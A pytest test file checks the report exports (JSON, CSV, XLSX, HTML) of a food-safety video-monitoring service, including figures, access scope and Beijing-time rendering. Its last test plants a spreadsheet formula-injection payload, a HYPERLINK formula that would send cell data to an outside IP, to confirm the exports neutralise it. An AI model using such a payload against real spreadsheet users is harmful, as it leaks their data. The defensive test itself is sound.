"""Report figures on a known data set, in JSON, CSV, XLSX and printable HTML."""

from __future__ import annotations

import csv
import io
import json
import uuid
import zipfile
from datetime import datetime
from typing import Any

import openpyxl
import pytest
from central_support import Central, call

pytestmark = [pytest.mark.asyncio, pytest.mark.databases("sqlite", "postgres")]

T0 = 1_790_000_000.0
H = 3600.0


def _alert(site: str, org_path: str, start: float, **extra: Any) -> dict[str, Any]:
    return {
        "id": str(uuid.uuid4()),
        "site_id": site,
        "camera_id": "cam1",
        "org_path": org_path,
        "kind": "no_chef_hat",
        "station": "kitchen_prep",
        "rule": "r",
        "severity": "warning",
        "start": start,
        "score": 0.9,
        "state": "new",
        "created_at": start,
        "updated_at": start,
        **extra,
    }


def load_known_data(central: Central) -> None:
    svc = central.svc
    path = {s["id"]: s["org_path"] for s in svc.orgs.list_sites(_everything())}
    a, b = path["demo-canteen-a"], path["demo-canteen-b"]
    for site in ("demo-canteen-a", "demo-canteen-b"):
        svc.orgs.upsert_camera(site, "cam1", name="Kitchen", station="kitchen_prep")
    with svc.ldb.transaction() as db:
        db.execute("update cameras set created_at = ?", [T0 - 1000])
        db.table("alerts").insert_all(
            [
                _alert("demo-canteen-a", a, T0 + 1 * H, acknowledged_at=T0 + 1 * H + 60),
                _alert(
                    "demo-canteen-a",
                    a,
                    T0 + 2 * H,
                    acknowledged_at=T0 + 2 * H + 180,
                    requested_at=T0 + 3 * H,
                    submitted_at=T0 + 4 * H,
                    state="closed",
                ),
                _alert(
                    "demo-canteen-a",
                    a,
                    T0 + 3 * H,
                    kind="rodent",
                    station="storage",
                    state="rectification_requested",
                    requested_at=T0 + 3 * H,
                    deadline=T0 + 4 * H,
                ),
                _alert("demo-canteen-b", b, T0 + 5 * H),
                _alert("demo-canteen-a", a, T0 - 5 * H),  # before the period
            ]
        )
        log = [
            ("demo-canteen-a", "online", T0 - 100),
            ("demo-canteen-a", "offline", T0 + 2 * H),
            ("demo-canteen-a", "online", T0 + 4 * H),
        ]
        for site, state, since in log:
            db.execute(
                "insert into camera_state_log (site, camera, state, since, reason, received_at) "
                "values (?, 'cam1', ?, ?, '', ?)",
                [site, state, since, since],
            )
        samples = [
            {
                "site_id": "demo-canteen-a",
                "ts": T0 + i * 300.0,
                "interval_s": 300.0,
                "retention_days": 120.0,
                "cameras": json.dumps({"cam1": i * 300.0 <= 5 * H}),
            }
            for i in range(1, 121)
        ] + [
            {
                "site_id": "demo-canteen-b",
                "ts": T0 + H,
                "interval_s": 300.0,
                "retention_days": 30.0,
                "cameras": json.dumps({"cam1": False}),
            }
        ]
        db.table("heartbeat_samples").insert_all(samples)


async def _check_xlsx(central: Central, period: dict[str, str]) -> None:
    """The workbook: Chinese headers, words not identifiers, Beijing times, same scope."""
    params = {**period, "format": "xlsx"}
    resp = await central.client.get(
        "/api/v1/reports", params=params, headers=await central.token("city-monitor")
    )
    assert resp.status == 200
    assert resp.headers["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = openpyxl.load_workbook(io.BytesIO(await resp.read())).active
    assert sheet is not None
    rows = [tuple(r) for r in sheet.iter_rows(values_only=True)]
    assert rows[0][0] == "食品安全视频监管报表" and rows[1] == ("分类", "项目", "数值")
    body = {(r[0], r[1]): r[2] for r in rows[2:]}
    assert body[("统计时段", "到")] == datetime(2026, 9, 22, 8, 13, 20)  # 00:13:20 UTC
    assert body[("主要指标", "预警总数")] == 4 and body[("主要指标", "录像完整率")] == 0.25
    assert body[("主要指标", "平均确认时间（分钟）")] == 2.0
    assert body[("按预警类型", "鼠患")] == 1 and body[("按预警类型", "未戴厨师帽")] == 3
    assert body[("按企业", "中宁县第二中学食堂")] == 1
    assert not any("rodent" in str(cell) for row in rows for cell in row)
    county = await central.client.get(
        "/api/v1/reports", params=params, headers=await central.token("inspector-a")
    )
    sheet = openpyxl.load_workbook(io.BytesIO(await county.read())).active
    assert sheet is not None
    names = [r[1] for r in sheet.iter_rows(values_only=True) if r[0] == "按企业"]
    assert names == ["中卫市第一小学食堂"]  # the county's own enterprises only, as in CSV
    staff = await central.client.get(
        "/api/v1/reports", params=params, headers=await central.token("staff-canteen-a")
    )
    assert staff.status == 403


def _everything() -> Any:
    from central.regulation.scope import Scope

    return Scope.everything()


async def test_report_numbers_for_city_and_county(central: Central) -> None:
    load_known_data(central)
    period = {"from": str(T0), "to": "2026-09-22T00:13:20+00:00"}  # = T0 + 10 h
    status, city = await call(central, "city-monitor", "GET", "/api/v1/reports", params=period)
    assert status == 200, city
    alerts = city["alerts"]
    assert alerts["total"] == 4
    assert alerts["by_kind"] == {"no_chef_hat": 3, "rodent": 1}
    assert alerts["by_station"] == {"kitchen_prep": 3, "storage": 1}
    assert {e["name"]: e["count"] for e in alerts["by_enterprise"]} == {
        "中卫市第一小学食堂": 3,
        "中宁县第二中学食堂": 1,
    }
    assert alerts["mean_time_to_acknowledge_s"] == 120.0
    assert alerts["mean_time_to_rectify_s"] == 3600.0
    assert alerts["overdue"] == 1
    assert city["cameras"] == {"count": 2, "online_rate": 0.4}
    assert city["recording"] == {
        "hours_recorded": 5.0,
        "hours_expected": 20.0,
        "completeness": 0.25,
    }
    retention = city["retention"]
    assert [s["site"] for s in retention["sites_below_duty"]] == ["demo-canteen-b"]
    assert retention["sites_unknown"] == ["demo-slaughter-a"]
    assert retention["compliance_rate"] == 0.5

    _, county = await call(central, "inspector-a", "GET", "/api/v1/reports", params=period)
    assert county["alerts"]["total"] == 3 and county["cameras"]["online_rate"] == 0.8
    assert county["recording"]["completeness"] == 0.5
    assert county["retention"]["sites_below_duty"] == []

    _, text = await call(
        central, "city-monitor", "GET", "/api/v1/reports", params={**period, "format": "csv"}
    )
    rows = list(csv.reader(io.StringIO(text.decode())))
    assert ["alerts", "total", "4"] in rows and ["alerts.by_kind", "rodent", "1"] in rows
    assert ["recording", "completeness", "0.25"] in rows
    await _check_xlsx(central, period)
    _, page = await call(
        central,
        "city-monitor",
        "GET",
        "/api/v1/reports",
        params={**period, "format": "html", "org_id": central.seed["orgs"]["county_a"]},
    )
    html = page.decode()
    assert "<table>" in html and "沙坡头区" in html and "中宁县第二中学食堂" not in html
    # In words and on the site's clock (Beijing), never identifiers or UTC ISO stamps.
    assert "统计时段：" in html and "鼠患" in html and "rodent" not in html
    assert "至 2026-09-22 08:13:20" in html  # 00:13:20 UTC is 08:13:20 in Beijing
    assert "T00:00:00" not in html and "Z" not in html.split("统计时段：")[1][:60]
    # The strict page CSP allows no inline style: the print styles come from /static.
    assert "<style" not in html and 'href="/static/report-print.css"' in html
    css = await central.client.get("/static/report-print.css")
    assert css.status == 200 and "border-collapse" in await css.text()

    status, _ = await call(central, "staff-canteen-a", "GET", "/api/v1/reports", params=period)
    assert status == 403
    status, err = await call(
        central,
        "city-monitor",
        "GET",
        "/api/v1/reports",
        params={"from": "2026-01-02T00:00:00Z", "to": "2026-01-01T00:00:00Z"},
    )
    assert status == 400


async def test_a_station_named_like_a_formula_stays_text_in_the_csv_and_the_workbook(
    central: Central,
) -> None:
    # The edge box (the supervised party) names its camera's station; a regulator opens the
    # report in a spreadsheet program, where a formula would run (or send cells away).
    formula = '=HYPERLINK("http://203.0.113.9/?"&B3,"详情")'
    await central.event("demo-canteen-a", "cam1", station=formula)
    await central.event("demo-canteen-a", "cam1", station="@SUM(1+1)")
    headers = await central.token("city-monitor")
    resp = await central.client.get("/api/v1/reports", params={"format": "csv"}, headers=headers)
    rows = list(csv.reader(io.StringIO(await resp.text())))
    stations = {r[1]: r[2] for r in rows if r[0] == "alerts.by_station"}
    assert stations == {f"'{formula}": "1", "'@SUM(1+1)": "1"}
    resp = await central.client.get("/api/v1/reports", params={"format": "xlsx"}, headers=headers)
    data = await resp.read()
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    cells = {c.value: c.data_type for row in sheet.iter_rows() for c in row if c.value}
    assert cells[formula] == "s" and cells["@SUM(1+1)"] == "s"  # text, not formulas
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        assert "<f>" not in book.read("xl/worksheets/sheet1.xml").decode()
